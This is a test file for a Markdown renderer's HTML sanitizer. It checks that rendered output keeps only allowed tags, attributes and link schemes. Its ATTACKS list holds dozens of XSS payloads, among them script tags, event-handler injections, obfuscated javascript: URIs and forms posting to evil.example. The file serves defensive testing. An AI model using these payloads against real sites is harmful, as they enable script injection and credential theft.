import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, test } from 'vitest';
import { allSections, contentOf, parse, told } from '../support.ts';

/** The HTML of an article's only section. */
function render(markdown: string): string {
  const { sections } = contentOf(parse(`---\ndialect: article\n---\n# T\n\n${markdown}`), 'article');
  return sections[0]?.html ?? '';
}

const ELEMENTS = new Set(
  'a abbr b blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i input ins kbd li mark ol p pre q rp rt ruby s samp small span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(['href', 'title', 'class', 'align', 'start', 'type', 'checked', 'disabled', 'open']);

/** What a page's safety asks of every piece of HTML, read again by another parser. */
function expectSafe(html: string): void {
  new Parser({
    onopentag(name, attributes) {
      expect(ELEMENTS).toContain(name);
      for (const [attribute, value] of Object.entries(attributes)) {
        expect(ATTRIBUTES).toContain(attribute);
        if (attribute === 'href') expect(value).not.toMatch(/^[\s\p{Cc}]*(?:javascript|data|vbscript|file)\s*:/iu);
        if (attribute === 'class') expect(value).toMatch(/^(?:language-\S+|task-list-item|contains-task-list)?$/);
      }
    },
    onprocessinginstruction() {
      throw new Error(`A doctype or instruction in ${html}`);
    },
    oncomment() {
      throw new Error(`A comment in ${html}`);
    },
  }).end(html);
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png" alt="a picture">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" id="search" name="config" class="button">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](data:text/html,x)',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/p.png)',
  '<javascript:alert(1)>',
  '<div id="__proto__" onmouseover="alert(1)">x</div>',
  '<details open ontoggle=alert(1)><summary>s</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "<script>alert(1)</script>" ?>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '</p></div></section><script>alert(1)</script>',
  '<p><table><tr><td><script>alert(1)</script></td></tr></table></p>',
  '<my-element onclick="alert(1)">x</my-element>',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img/src=x/onerror=alert(1)>\ncode\n```',
  '`<script>alert(1)</script>`',
  '<code class="language-sql evil">x</code><pre class="x"><code class="evil">y</code></pre>',
];

/** Places of a document that an attack may stand in. */
const PLACES: readonly (readonly [string, (attack: string) => string])[] = [
  ['a paragraph', (attack) => `Before ${attack} after`],
  ['a block', (attack) => attack],
  ['a list', (attack) => `- a\n\n  ${attack.replaceAll('\n', '\n  ')}`],
  ['a quote', (attack) => attack.replaceAll(/^/gm, '> ')],
  ['a cell', (attack) => `| a | b |\n|---|---|\n| ${attack.replaceAll('\n', ' ').replaceAll('|', '\\|')} | c |`],
  ['HTML', (attack) => `<div><b>\n\n${attack}\n\n</div>`],
  ['a footnote', (attack) => `a[^1]\n\n[^1]: ${attack.replaceAll('\n', '\n    ')}`],
  ['a link', (attack) => `[${attack.replaceAll('\n', ' ')}](https://example.org)`],
];

describe.each(PLACES)('in %s', (_, place) => {
  test.each(ATTACKS)('%j does no harm', (attack) => {
    expectSafe(render(place(attack)));
  });
});

test('in a heading, a heading kept by its HTML, and in front matter', () => {
  for (const attack of ATTACKS) {
    const line = attack.replaceAll('\n', ' ');
    const document = parse(
      `---\ndialect: article\ntitle: ${JSON.stringify(attack)}\nreferences: [${JSON.stringify(attack)}]\n---\n## ${line}\n\ntext\n`,
    );
    const { sections, details } = contentOf(document, 'article');
    for (const section of allSections(sections)) {
      expectSafe(section.titleHtml ?? '');
      expect(section.id).toMatch(/^[^\s"'<>&]+$/);
    }
    for (const { html } of details.references) expectSafe(html);
  }
});

test('any mixture of tags, quotes and Markdown is safe', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ...ATTACKS,
      '<',
      '>',
      '"',
      "'",
      '</',
      '<!--',
      '-->',
      '&lt;',
      '&#60;',
      '\\',
      '`',
      '*',
      '|',
      '\n',
      '\n\n',
      ' ',
      '\u0000',
    ),
    fc.string({ maxLength: 6 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const document = parse(`---\ndialect: article\n---\n# T\n\n${pieces.join('')}`);
      for (const { html, titleHtml } of allSections(document.content?.sections ?? [])) {
        expectSafe(html);
        expectSafe(titleHtml ?? '');
      }
    }),
    { numRuns: 500 },
  );
});

describe('what stays', () => {
  test.each([
    ['**bold** and *thin* and `code`', '<p><strong>bold</strong> and <em>thin</em> and <code>code</code></p>'],
    ['[x](https://example.org "T")', '<p><a href="https://example.org" title="T">x</a></p>'],
    ['[x](../analytics/a.md#b)', '<p><a href="../analytics/a.md#b">x</a></p>'],
    ['[x](#section)', '<p><a href="#section">x</a></p>'],
    ['<mailto:a@example.org>', '<p><a href="mailto:a@example.org">mailto:a@example.org</a></p>'],
    ['[x](//example.org/y)', '<p><a href="https://example.org/y">x</a></p>'],
    ['![a map](map.png)', '<p><a href="map.png">a map</a></p>'],
    ['[![badge](b.svg)](https://example.org)', '<p><a href="https://example.org"><span>badge</span></a></p>'],
    ['<img src="map.png" alt="a map">', '<a href="map.png">a map</a>'],
    ['a<br>b<br/>c', '<p>a<br>b<br>c</p>'],
    ['<details><summary>S</summary>\n\ntext\n\n</details>', '<details><summary>S</summary>\n<p>text</p>\n</details>'],
    ['run `x` on <RemoteHost>', '<p>run <code>x</code> on &#x3C;RemoteHost></p>'],
    ['<user> and <b>bold</b>', '<p>&#x3C;user> and <b>bold</b></p>'],
    ['<port>:<host>', '<p>&#x3C;port>:&#x3C;host></p>'],
    ['<RemoteHost>\ntext', '<p>&#x3C;RemoteHost>\ntext</p>'],
    ['[Button](https://example.org){: .btn .btn--success}', '<p><a href="https://example.org">Button</a></p>'],
    ['text {: #id key="a b"} more', '<p>text  more</p>'],
    ['a set {: of words} in braces', '<p>a set {: of words} in braces</p>'],
    ['[a][1]\n\n[1]: https://example.org', '<p><a href="https://example.org">a</a></p>'],
    ['1. a\n\n   b', '<ol>\n<li>\n<p>a</p>\n<p>b</p>\n</li>\n</ol>'],
    ['3. a', '<ol start="3">\n<li>a</li>\n</ol>'],
    ['<p><i>unclosed', '<p><i>unclosed</i></p>'],
  ])('%j', (markdown, html) => {
    expect(render(markdown)).toBe(html);
  });

  test('alignment and surplus cells of a table', () => {
    expect(render('| a | b |\n|:--|--:|\n| 1 | 2 | 3 |')).toBe(
      '<table>\n<thead>\n<tr><th align="left">a</th><th align="right">b</th></tr>\n</thead>\n<tbody>\n<tr><td align="left">1</td><td align="right">2</td><td>3</td></tr>\n</tbody>\n</table>',
    );
  });
});

test('what is not shown is told', () => {
  const document = parse('---\ndialect: article\n---\n# T\n\n<script>x</script>\n\n[x](javascript:y)\n');
  expect(told(document)).toEqual(['warning document/unsafe-html 6:1', 'warning document/unsafe-link 8:1']);
});

describe('highlighting', () => {
  const highlight = (code: string, language: string | undefined): string =>
    `<pre data-${language}>${code.length}</pre>`;

  test('gets the text and language of each fence, and its HTML is trusted', () => {
    const text =
      '---\ndialect: article\n---\n# T\n\n```sql\nSELECT 1\n```\n\n- in a list\n\n  ```{code-cell} Ipython3\n  a < b\n  ```\n\n```\nplain\n```\n';
    const { sections } = contentOf(parse(text, { highlight }), 'article');
    expect(sections[0]?.html).toBe(
      '<pre data-sql>8</pre>\n<ul>\n<li>\n<p>in a list</p>\n<pre data-python>5</pre>\n</li>\n</ul>\n<pre data-undefined>5</pre>',
    );
  });

  test('an analytic is highlighted as its language', () => {
    const text = '---\ntitle: "CAR-2020-01-001: T"\n---\n### Implementations\n#### Pseudocode\n```\nx\n```\n';
    const { sections } = contentOf(parse(text, { highlight }), 'car');
    expect(sections[0]?.sections[0]?.html).toBe('<pre data-car-pseudocode>1</pre>');
  });
});
